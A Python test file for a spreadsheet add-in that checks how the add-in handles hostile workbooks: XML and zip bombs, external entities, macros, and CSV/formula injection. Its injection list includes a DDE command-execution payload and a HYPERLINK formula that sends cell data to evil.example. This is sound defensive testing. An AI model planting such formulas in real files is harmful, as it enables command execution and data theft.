"""Whole files: wrong kinds, damage, bombs, macros, other programs' exports, and text
meant to become a live formula. Refusals are one plain sentence (exit 2 for `check`;
`collect` refuses the file as an issue and goes on, exit 1)."""

from __future__ import annotations

from pathlib import Path

from addin.schema import WORKBOOK_INPUTS
from tests.hostile import big, foreign
from tests.hostile.corpus import Case, Expect, accepted, chain, located, refused, typed
from tests.hostile.mutate import formula_cell, read_part, rewrite_parts, sheet_part

M = "masters"
INJECTIONS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Click to fix")',
}
LONG_ID = "C" + "9" * 40_000  # longer than an Excel cell holds


def _missing(path: Path) -> Path:
    path.unlink()
    return path


def _dashboard(path: Path) -> Path:
    return path.with_name("dashboard.xlsx")


def _control_character(path: Path) -> Path:
    """A type typed with a bell character inside (a cell can carry `_x0007_`)."""
    typed("Customers", {"C3": "QQQQ"})(path)
    part = sheet_part(path, "Customers")
    return rewrite_parts(
        path, path, {part: read_part(path, part).replace(b"QQQQ", b"dist_x0007_ributor")}
    )


def _google_outcome() -> Expect:
    """A table-less export: each table is read from its sheet, with two warnings."""
    where = {("not_allowed", "Customers!C3")}
    for name in WORKBOOK_INPUTS["masters"]:
        where |= {("table_missing", f"{name}!A1"), ("rows_under_table", f"{name}!A2")}
    return Expect(1, frozenset(where))


CASES: list[Case] = [
    # --- not workbooks at all
    Case(
        "file-csv-renamed",
        M,
        (),
        foreign.text_file("key,value\nyear,2026\n"),
        refused("not an Excel workbook"),
    ),
    Case(
        "file-html-renamed",
        M,
        (),
        foreign.text_file("<html><body>Report</body></html>"),
        refused("not an Excel workbook"),
    ),
    Case("file-empty", M, (), foreign.text_file(""), refused("the file is empty")),
    Case("file-missing", M, (), _missing, refused("no such file")),
    Case(
        "file-zip-not-a-workbook",
        M,
        (),
        foreign.not_a_workbook_zip,
        refused("zip file is not an Excel workbook"),
    ),
    Case("file-truncated-half", M, (), foreign.truncated(0.5), refused("damaged or incomplete")),
    Case("file-truncated-tail", M, (), foreign.truncated(0.99), refused("damaged or incomplete")),
    Case("file-password-protected", M, (), foreign.encrypted, refused("password-protected")),
    Case(
        "file-dashboard-has-no-inputs",
        M,
        (),
        _dashboard,
        refused("not a SalesDesk workbook with input tables"),
    ),
    # --- dangerous
    Case(
        "file-xml-bomb-in-sheet",
        M,
        ("Regions",),
        foreign.entity_in_sheet("Regions", foreign.BILLION_LAUGHS, b"&lol9;"),
        refused("declares XML entities"),
    ),
    Case(
        "file-xml-bomb-in-shared-strings",
        M,
        (),
        foreign.bomb_in_shared_strings,
        refused("declares XML entities"),
    ),
    Case(
        "file-external-entity",
        M,
        ("Regions",),
        foreign.entity_in_sheet("Regions", foreign.EXTERNAL_ENTITY, b"&secret;"),
        refused("declares XML entities"),
    ),
    Case("file-zip-bomb", M, (), foreign.zip_bomb, refused("(a zip bomb)")),
    Case("file-ten-thousand-parts", M, (), foreign.many_parts, refused("refused as unsafe")),
    Case("file-lying-zip-sizes", M, ("Regions",), foreign.lying_size, refused("cannot be read")),
    Case(
        "file-far-corner-cell",
        M,
        ("Regions",),
        typed("Regions", {"XFD1048576": "x"}),
        refused("more than 30,000,000 cells"),
    ),
    Case(
        "file-lzma-compressed",
        M,
        (),
        foreign.lzma_parts,
        refused("is compressed in a way Excel never writes (zip method 14)"),
    ),
    Case(
        "collect-xml-bomb-in-properties",
        "rep",
        (),
        lambda p: rewrite_parts(p, p, {"docProps/custom.xml": foreign.BILLION_LAUGHS + b"<x/>"}),
        refused("declares XML entities", door="collect"),
        door="collect",
    ),
    # --- other programs
    Case(
        "file-macro-workbook",
        M,
        ("Customers",),
        chain(typed("Customers", {"C3": "reseller"}), foreign.with_macros),
        located(("not_allowed", "Customers!C3")),
    ),
    Case(
        "file-google-sheets-export",
        M,
        WORKBOOK_INPUTS["masters"],
        chain(typed("Customers", {"C3": "reseller"}), foreign.google_export),
        _google_outcome(),
    ),
    Case(
        "file-libreoffice-masters",
        M,
        ("Customers",),
        chain(typed("Customers", {"C3": "reseller"}), foreign.libreoffice),
        located(("not_allowed", "Customers!C3")),
        marks=("libreoffice",),
    ),
    Case(
        "file-libreoffice-rep-report",
        "rep",
        WORKBOOK_INPUTS["rep"],
        chain(typed("DailyReport", {"B2": "C003"}), foreign.libreoffice),
        located(("not_my_customer", "DailyReport!B2")),
        door="collect",
        marks=("libreoffice",),
    ),
    Case(
        "file-50-mb-sales-sheet",
        "finance",
        ("SalesLines",),
        big.copy_big_finance,
        located(("bad_date", f"SalesLines!C{big.BAD_ROW}")),
        marks=("slow",),
    ),
    # --- formulas the user typed: read by their saved result, kept across our saves
    Case(
        "formula-with-saved-result",
        "finance",
        ("SalesLines",),
        formula_cell("SalesLines", "H2", "SUM(600,400)", "1000"),
        accepted(("SalesLines", 2, "amount", 1000.0)),
    ),
    Case(
        "formula-with-saved-error",
        "finance",
        ("SalesLines",),
        formula_cell("SalesLines", "H2", "1/0", "#DIV/0!", "e"),
        located(("error_value", "SalesLines!H2")),
    ),
    Case(
        "formula-never-calculated",
        "finance",
        ("SalesLines",),
        formula_cell("SalesLines", "H2", "SUM(600,400)", None),
        located(("formula_no_result", "SalesLines!H2")),
    ),
    Case(
        "formula-in-a-report",
        "rep",
        ("DailyReport",),
        formula_cell("DailyReport", "F2", "100*12", "1200"),
        accepted(("DailyReport", 2, "order_amount", 1200.0)),
    ),
    # --- text that must stay text
    Case(
        "text-control-character",
        M,
        ("Customers",),
        _control_character,
        located(("not_allowed", "Customers!C3")),
    ),
    Case(
        "text-longer-than-a-cell",
        "rep",
        ("DailyReport",),
        typed("DailyReport", {"B2": LONG_ID}),
        located(("not_my_customer", "DailyReport!B2")),
        door="collect",
    ),
    Case(
        "injection-valid-name",
        M,
        ("Customers",),
        typed("Customers", {"B2": INJECTIONS["dde"], "B3": INJECTIONS["hyperlink"]}),
        accepted(("Customers", 2, "name", INJECTIONS["dde"])),
    ),
    *(
        Case(
            f"injection-{kind}-in-type",
            M,
            ("Customers",),
            typed("Customers", {"C3": text}),
            located(("not_allowed", "Customers!C3")),
        )
        for kind, text in INJECTIONS.items()
    ),
    *(
        Case(
            f"injection-{kind}-in-price",
            M,
            ("Products",),
            typed("Products", {"D2": text}),
            located(("bad_number", "Products!D2")),
        )
        for kind, text in INJECTIONS.items()
    ),
    *(
        Case(
            f"injection-{kind}-in-report",
            "rep",
            ("DailyReport",),
            typed("DailyReport", {"B2": text, "I3": text}),
            located(("not_my_customer", "DailyReport!B2")),
            door="collect",
        )
        for kind, text in INJECTIONS.items()
    ),
]
